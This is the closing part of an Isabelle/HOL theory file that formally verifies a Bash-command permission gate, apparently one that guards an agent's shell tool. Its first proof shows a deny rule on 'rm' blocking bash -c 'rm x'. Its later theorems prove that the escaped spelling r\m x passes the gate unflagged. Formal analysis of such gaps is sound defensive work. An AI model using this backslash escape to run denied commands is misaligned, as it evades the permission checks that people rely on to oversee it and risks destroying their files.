    by code_simp+
  have d: "shell_dash_c_script (map ShLiteral [''bash'', ''-c'', ''rm x'']) = LiteralAt 2" by code_simp
  have "runs example_env True 0 ''rm x'' [''rm'', ''x'']"
    using runs.plain [OF i, of ?i] n(2) by simp
  then have r: "runs example_env True 1 inline_script [''rm'', ''x'']"
    using runs.inline [OF o, of ?o 2 True 0] n(1) d by simp
  have h: "hit example_env (Bash (join '' '' [''rm'', ''x''])) None (rule_on Deny FBash ''rm'')" by code_simp
  have m: "rule_on Deny FBash ''rm'' \<in> set (rules (config (policy_new example_env deny_config)))"
    by (simp add: policy_new_def deny_config_def config_new_def)
  have a: "action (rule_on Deny FBash ''rm'') = Deny" "tool (rule_on Deny FBash ''rm'') \<in> {FBash, FAny}"
    by (simp_all add: rule_on_def)
  have k: "1 \<le> MAX_INLINE_SHELL_DEPTH" by (simp add: MAX_INLINE_SHELL_DEPTH_def)
  show ?thesis using denied_command_stopped [OF session_run.start r m a h] k by blast
qed

text \<open>The rules see the words of a plain command as they are spelled. A shell drops the backslash of
  \<open>r\m\<close>, and so does the decoding of words for file accesses, but a deny rule on \<open>rm\<close> does not apply to
  the script \<open>r\m x\<close>: the gate raises nothing.\<close>

theorem escaped_head_passes_gate:
  assumes "shell_parse env escaped_script = Some (two_word_tree 3)"
    and "\<And>m b t. glob_new env ''rm'' = Some m \<Longrightarrow> m b t \<Longrightarrow> t = ''rm''"
  shows "decode_unquoted_word (''r'' @ [CHR 0x5C] @ ''m'') = Some ''rm'' \<and>
         evaluate_bash_command_policy env (policy_new env deny_config) escaped_script = None"
proof
  show "decode_unquoted_word (''r'' @ [CHR 0x5C] @ ''m'') = Some ''rm''" by code_simp
  let ?w = "[''r'' @ [CHR 0x5C] @ ''m'', ''x'']" and ?pol = "policy_new env deny_config"
  have p: "try_parse_word_only_commands_sequence (two_word_tree 3) escaped_script =
      Some [\<lparr>pc_words = ?w, span_start = 0, span_end = 5\<rparr>]" by code_simp
  have n: "normalize_command_words ?w = \<lparr>norm_words = ?w, norm_chdir = False, norm_split = False,
      norm_uncertain = False, norm_exhausted = False, norm_ambiguous = False\<rparr>" by code_simp
  have d: "shell_dash_c_script (map ShLiteral ?w) = NotInline" "env_split_string_script ?w = None"
    "join '' '' ?w = escaped_script" "trim_start escaped_script = escaped_script"
    "\<not> starts_with escaped_script ''rm''" "escaped_script \<noteq> ''rm''"
    by code_simp+
  have g: "\<not> glob_matches escaped_script Freeform (compile_matcher env (rule_on Deny FBash ''rm''))"
    using assms(2) d(6) by (auto simp: glob_matches_def compile_matcher_def rule_on_def split: option.split)
  have "\<not> pattern_matches env (Bash escaped_script) (rule_on Deny FBash ''rm'')
      (compile_matcher env (rule_on Deny FBash ''rm'')) None"
    using g d(4,5) by (simp add: pattern_matches_def Let_def) (simp add: rule_on_def)
  then have "evaluate_lexical_with_cwd env ?pol (Bash escaped_script) None = None"
    by (simp add: evaluate_lexical_with_cwd_def policy_new_def deny_config_def config_new_def
        bash_allow_rules_def) (simp add: rule_on_def)
  then have e: "escalate env ?pol escaped_script = None"
    by (simp add: escalate_def evaluate_def evaluate_shape Let_def)
  have "evaluate_command_words env ?pol recurse ?w = None" for recurse
    unfolding evaluate_command_words_def n Let_def normalized.simps d(1-3) e fail_closed_if_def by simp
  then have "segments_gate env ?pol recurse escaped_script = None" for recurse
    by (simp add: segments_gate_def all_commands_from_script_def assms(1) p)
  then have "evaluate_bash_command_segments env ?pol depth escaped_script = None" for depth
    by (subst segments_level)
  then show "evaluate_bash_command_policy env ?pol escaped_script = None"
    by (simp add: evaluate_bash_command_policy_def evaluate_bash_command_gate_def)
qed

theorem escaped_head_passes_gate_witness:
  "evaluate_bash_command_policy example_env (policy_new example_env deny_config) escaped_script = None"
proof -
  have p: "shell_parse example_env escaped_script = Some (two_word_tree 3)" by code_simp
  have g: "t = ''rm''" if "glob_new example_env ''rm'' = Some m" "m b t" for m b t
    using that by (auto simp: example_env_def)
  show ?thesis by (rule escaped_head_passes_gate [OF p, THEN conjunct2]) (erule (1) g)
qed

end
